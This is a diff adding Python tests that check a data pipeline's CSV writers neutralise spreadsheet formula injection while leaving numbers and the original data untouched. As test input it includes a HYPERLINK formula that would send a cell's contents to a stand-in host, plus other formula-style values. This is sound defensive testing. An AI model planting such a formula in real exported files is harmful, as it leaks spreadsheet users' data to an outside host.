@@ -455,3 +455,52 @@ def test_a_column_named_file_or_row_is_data_not_the_readers_own(tmp_path):
     assert cohort.rows["_file"].tolist() == ["children.csv", "children.csv"]
     assert cohort.rows["_row"].tolist() == [2, 3]
     assert cohort.children.scores["site"].tolist() == ["x.csv", "x.csv"]  # the baseline row's site
+
+
+# ----------------------------------------------------------------------------- formula neutralising (issue 9)
+
+def test_results_csvs_neutralise_formulas_and_leave_numbers_alone(tmp_path):
+    from evalkit.data.pipeline import write_cleaning_results
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    rows = [child(evil, "pre", delivery="+1", referral_reason="@SUM(A1:A9)", site="-cmd", q1="x"),
+            child(evil, "post", delivery="+1", referral_reason="@SUM(A1:A9)", site="-cmd"),
+            child("\tC2", "pre", delivery="group", referral_reason="school", site="north"),
+            child("\tC2", "post", delivery="group", referral_reason="school", site="north")]
+    frame = pd.DataFrame(rows)
+    cfg = write_cohort(tmp_path / "in", children=frame)
+    cohort = prepare_cohort(cfg)
+    written = write_cleaning_results(cohort, tmp_path / "results")
+    scores = pd.read_csv(tmp_path / "results" / "scores.csv", dtype=str, keep_default_na=False)
+    lowered = evil.casefold()
+    assert sorted(set(scores["id"])) == ["'" + lowered, "c2"]  # '\tC2' is trimmed to c2 by cleaning
+    first = scores[scores["id"] == "'" + lowered].iloc[0]
+    assert (first["delivery"], first["referral_reason"], first["site"]) == ("'+1", "'@SUM(A1:A9)", "'-cmd")
+    assert scores["age"].tolist() == ["9"] * 4 and scores["differentiating"].iloc[0] == "2"
+    log = pd.read_csv(tmp_path / "results" / "cleaning_log.csv", dtype=str, keep_default_na=False)
+    assert set(log.loc[log["column"] == "q1", "id"]) == {"'" + lowered}
+    assert not any(c.startswith(("=", "+", "-", "@")) for p in written
+                   for c in pd.read_csv(p, dtype=str, keep_default_na=False).to_numpy().ravel())
+    assert cohort.children.scores["id"].iloc[0] == lowered  # only the file is changed, not the data
+
+
+def test_write_results_neutralises_text_not_numbers(tmp_path):
+    from evalkit.report.analysis import write_results
+
+    table = pd.DataFrame({"level": ["-0.5", "+1", "=1+1", "@x", "\rcr", "ok", None],
+                          "change": [-0.5, 1.0, -2.25, 0.0, -1e-12, 3.0, float("nan")],
+                          "n": [-1, 2, 3, 4, 5, 6, 7],
+                          "cat": pd.Categorical(["-a", "b", "-a", "b", "b", "b", None])})
+    path, = write_results({"t": table}, tmp_path)
+    assert path.read_bytes().decode("utf-8").split("\n")[:-1] == [
+        "level,change,n,cat", "'-0.5,-0.5,-1,'-a", "'+1,1,2,b", "'=1+1,-2.25,3,'-a", "'@x,0,4,b",
+        "'\rcr,-1e-12,5,b", "ok,3,6,b", ",,7,"]
+    assert table["level"].iloc[0] == "-0.5"  # the caller's frame is left as it was
+
+
+def test_sample_results_are_unchanged_by_formula_neutralising():
+    from evalkit.data.pipeline import neutralise_formulas
+
+    cohort = prepare_cohort("data/sample/cohort.yml")
+    for table in (cohort.log, cohort.summary, cohort.problems, cohort.scores_table()):
+        assert neutralise_formulas(table) is table  # nothing in the sample starts like a formula
